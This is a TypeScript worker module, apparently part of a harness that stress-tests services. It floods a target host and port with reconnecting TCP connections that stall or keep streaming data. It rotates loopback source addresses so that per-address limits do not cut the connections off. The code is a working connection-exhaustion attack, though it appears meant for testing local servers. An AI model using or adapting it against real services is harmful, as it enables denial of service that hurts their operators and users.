/**
 * Attacks a service as a separate program. The parent process sends the kind of attack and ends the program. A connection
 * that is closed is opened again.
 */
import { connect, type Socket } from "node:net";
import type { Attack } from "./memory.ts";
import type { Shape } from "./shapes.ts";

/** Addresses of loopback that the connections come from, so that no limit of one address ends them. */
const addresses = 8;

/** Connections opened in one go, and milliseconds between two goes. */
const [atOnce, pause] = [100, 20];

function attack({ host, port }: Attack, shape: Shape): void {
	const head = Buffer.from(shape.head);
	const more = Buffer.from(shape.more);
	let missing = shape.connections;
	let opened = 0;
	const open = () => {
		missing--;
		const localAddress = `127.0.0.${2 + (opened++ % addresses)}`;
		const socket = connect({ host, port, localAddress });
		if (!shape.reads) socket.pause();
		else socket.resume();
		socket.on("error", () => {});
		socket.on("close", () => missing++);
		socket.once("connect", () => {
			if (head.length > 0) socket.write(head);
			if (more.length > 0) keepSending(socket, more);
		});
	};
	setInterval(() => {
		for (let count = Math.min(missing, atOnce); count > 0; count--) open();
	}, pause);
}

/** Sends as long as the system takes it. */
function keepSending(socket: Socket, bytes: Buffer): void {
	const send = () => {
		if (!socket.writable) return;
		if (socket.write(bytes)) setImmediate(send);
		else socket.once("drain", send);
	};
	send();
}

process.once("message", (message: Attack) => {
	for (const shape of message.shapes) attack(message, shape);
});
process.once("disconnect", () => process.exit());
